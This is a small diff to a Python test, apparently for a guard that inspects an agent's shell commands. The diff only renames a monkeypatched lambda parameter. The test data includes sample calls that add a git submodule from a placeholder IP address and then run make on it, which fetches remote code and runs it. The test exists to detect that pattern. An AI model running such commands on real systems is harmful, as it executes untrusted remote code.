@@ -86,7 +86,7 @@ def test_the_laws_catch_a_reading_taken_away(monkeypatch, broken):
     clear_caches()
     try:
         if broken == "submodules":
-            monkeypatch.setattr(_shield_flow, "cloned", lambda cmd, written: [])
+            monkeypatch.setattr(_shield_flow, "cloned", lambda cmd, gitmodules: [])
             calls = [("Bash", {"command": "git submodule add https://203.0.113.9/x.git vendor/x"}),
                      ("Bash", {"command": "make -C vendor/x"})]
         else:
